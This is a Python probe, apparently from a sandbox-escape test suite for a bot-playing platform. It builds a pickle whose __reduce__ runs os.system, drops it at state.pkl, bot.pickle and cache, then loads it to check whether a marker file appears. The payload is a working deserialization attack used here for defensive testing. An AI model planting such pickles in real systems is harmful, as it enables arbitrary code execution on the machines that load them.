# Pickles
# tries: a pickle that runs a command when it is read, put where the platform might read one
# idea: Python jails of capture-the-flag contests
# verdict: plays
# means: seccomp, dealer

import pickle


class SimplePlayer(Attacker):
    def attack(self):
        class Command:
            def __reduce__(self):
                return os.system, ("touch /tmp/husky-attack",)
        packed = pickle.dumps(Command())
        for name in ("state.pkl", "bot.pickle", "cache"):
            try:
                with open(name, "wb") as file:
                    file.write(packed)
            except OSError as error:
                note(name, code_of(error))
        answer = pickle.loads(packed)
        say("held" if answer != 0 and not os.path.exists("/tmp/husky-attack") else "ESCAPED", "command", f"answer {answer}")
